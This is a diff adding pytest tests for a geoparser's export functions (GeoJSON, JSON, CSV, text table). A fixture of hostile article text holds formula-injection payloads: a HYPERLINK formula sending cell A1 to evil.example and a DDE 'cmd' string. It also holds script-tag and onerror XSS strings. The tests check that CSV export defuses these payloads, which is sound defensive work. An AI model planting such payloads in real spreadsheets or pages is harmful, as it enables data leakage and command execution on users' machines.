@@ -1,0 +1,165 @@
+"""Tests for geo.export: GeoJSON, JSON, CSV and the text table, including hostile article text."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+
+from geo.articles import Article, article_from_text, split_passages
+from geo.export import CSV_COLUMNS, places_csv, places_geojson, places_json, places_table
+from geo.gazetteer import PlaceIndex
+from geo.pipeline import Geoparser
+from geo.places import Place, group_places, places_for
+from geo.recognize import Mention
+from geo.resolve import Resolver
+
+HOSTILE_TEXT = (
+    '=HYPERLINK("http://evil.example/?q="&A1,"Breaking news")\n'
+    "Shelling hit Kramatorsk <script>alert(1)</script> and \"Kyiv\" in `backticks` </script> "
+    "<img src=x onerror=alert(1)> overnight, 'officials' said.\n\n"
+    '=HYPERLINK("http://evil.example","click") Fighting near Mariupol continued.\n\n'
+    "@SUM(1+1) Troops left Mariupol.\n\n"
+    "+cmd|' /C calc'!A0 Sirens sounded in Kyiv.\n"
+)
+HOSTILE_PIECES = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</script>", "`backticks`",
+                  '"Kyiv"', "'officials'", '=HYPERLINK("http://evil.example","click")']
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+UNKNOWN = "Xqzzyplorbville"
+
+
+@pytest.fixture(scope="module")
+def seed_places(parser: Geoparser, seed_a: Article, seed_b: Article) -> list[Place]:
+    return places_for([seed_a, seed_b], parser)
+
+
+@pytest.fixture(scope="module")
+def hostile_places(parser: Geoparser) -> list[Place]:
+    return places_for([article_from_text(HOSTILE_TEXT, source="hostile.txt")], parser)
+
+
+@pytest.fixture(scope="module")
+def with_unresolved(index: PlaceIndex, parser: Geoparser) -> list[Place]:
+    """Places of an article with one mention the gazetteer cannot place."""
+    article = article_from_text(f"{UNKNOWN} was shelled again, officials in Kyiv said.")
+    unknown = Mention(0, len(UNKNOWN), UNKNOWN, (), ner_label="GPE", lookup_name=UNKNOWN)
+    resolved = Resolver(index).resolve([unknown]) + parser.parse(article.text)
+    places = group_places([(article, split_passages(article), resolved)])
+    assert {p.name for p in places} == {UNKNOWN, "Kyiv"}
+    return places
+
+
+def parse_csv(text: str) -> tuple[list[str], list[dict[str, str]]]:
+    rows = list(csv.reader(io.StringIO(text)))
+    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+# -- GeoJSON -------------------------------------------------------------------------------------
+
+def test_geojson_is_a_feature_collection_of_points(seed_places: list[Place]) -> None:
+    data = json.loads(places_geojson(seed_places))
+    assert data["type"] == "FeatureCollection"
+    assert len(data["features"]) == len(seed_places) > 10
+    for feature, place in zip(data["features"], seed_places, strict=True):
+        assert feature["type"] == "Feature"
+        assert feature["geometry"]["type"] == "Point"
+        lon, lat = feature["geometry"]["coordinates"]
+        assert (lon, lat) == pytest.approx((place.lon, place.lat), abs=1e-5)   # GeoJSON order: lon, lat
+        assert -180 <= lon <= 180 and -90 <= lat <= 90
+        assert feature["properties"]["name"] == place.name
+        assert feature["properties"]["mentions"] == place.mention_count
+
+
+def test_geojson_leaves_out_unresolved_places(with_unresolved: list[Place]) -> None:
+    data = json.loads(places_geojson(with_unresolved))
+    assert [f["properties"]["name"] for f in data["features"]] == ["Kyiv"]
+    assert json.loads(places_geojson([])) == {"type": "FeatureCollection", "features": []}
+
+
+def test_geojson_keeps_hostile_text_as_text(hostile_places: list[Place]) -> None:
+    data = json.loads(places_geojson(hostile_places))
+    passages = {p["passage"] for f in data["features"] for p in f["properties"]["passages"]}
+    for piece in HOSTILE_PIECES:
+        assert any(piece in text for text in passages), piece
+
+
+# -- JSON ----------------------------------------------------------------------------------------
+
+def test_json_records_carry_passages_and_offsets(seed_places: list[Place]) -> None:
+    records = json.loads(places_json(seed_places))
+    assert [r["name"] for r in records] == [p.name for p in seed_places]
+    for record, place in zip(records, seed_places, strict=True):
+        assert record["mentions"] == len(record["passages"]) == place.mention_count
+        assert (record["lat"], record["lon"]) == (place.lat, place.lon)
+        for p in record["passages"]:
+            assert p["passage"][p["mention_start"]:p["mention_end"]] == p["mention"]
+        assert all(a["name"] for a in record["alternatives"])
+
+
+def test_json_of_an_unresolved_place(with_unresolved: list[Place]) -> None:
+    [record] = [r for r in json.loads(places_json(with_unresolved)) if r["name"] == UNKNOWN]
+    assert record["lat"] is None and record["lon"] is None and record["kind"] == "unresolved"
+
+
+# -- CSV -----------------------------------------------------------------------------------------
+
+def test_csv_has_a_header_and_a_row_per_mention(seed_places: list[Place]) -> None:
+    header, rows = parse_csv(places_csv(seed_places))
+    assert tuple(header) == CSV_COLUMNS
+    assert len(rows) == sum(p.mention_count for p in seed_places)
+    expected = [(p.name, m.name, m.passage.text) for p in seed_places for m in p.mentions]
+    assert [(r["name"], r["mention"], r["passage"]) for r in rows] == expected
+    assert places_csv([]).strip() == ",".join(CSV_COLUMNS)
+
+
+def test_csv_keeps_hostile_text_and_defuses_formulas(hostile_places: list[Place]) -> None:
+    _, rows = parse_csv(places_csv(hostile_places))
+    assert len(rows) == sum(p.mention_count for p in hostile_places) >= 5
+    passages = [r["passage"] for r in rows]
+    for piece in HOSTILE_PIECES:
+        assert any(piece in text for text in passages), piece
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(FORMULA_STARTS) or _is_number(cell), (column, cell)
+    originals = {m.passage.text for p in hostile_places for m in p.mentions}
+    for cell in passages:
+        original = cell[1:] if cell.startswith("'") and cell[1:2] in FORMULA_STARTS else cell
+        assert original in originals
+    assert any(cell.startswith("'=HYPERLINK(") for cell in passages)
+    assert any(cell.startswith("'@SUM(") for cell in passages)
+    assert any(cell.startswith("'+cmd|") for cell in passages)
+    assert {r["article_title"] for r in rows} == {"'" + HOSTILE_TEXT.splitlines()[0]}
+
+
+def test_csv_leaves_numbers_alone(seed_places: list[Place]) -> None:
+    _, rows = parse_csv(places_csv(seed_places))
+    usa = [r for r in rows if r["name"] == "United States"]
+    assert usa and all(float(r["lon"]) < -60 for r in usa)       # a negative number, not a formula
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+# -- table ---------------------------------------------------------------------------------------
+
+def test_table_names_the_places(seed_places: list[Place]) -> None:
+    table = places_table(seed_places)
+    lines = table.splitlines()
+    assert lines[0].split()[:3] == ["place", "kind", "country"]
+    assert len(lines) == len(seed_places) + 1
+    for place, line in zip(seed_places, lines[1:], strict=True):
+        assert line.startswith(place.name[:40])
+    for name in ("Mariupol", "Kramatorsk", "Zaporizhzhia", "Ukraine", "Russia"):
+        assert name in table
+
+
+def test_table_shows_unresolved_places_without_a_point(with_unresolved: list[Place]) -> None:
+    [line] = [line for line in places_table(with_unresolved).splitlines() if line.startswith(UNKNOWN)]
+    assert line.split()[1:5] == ["unresolved", "-", "-", "-"]
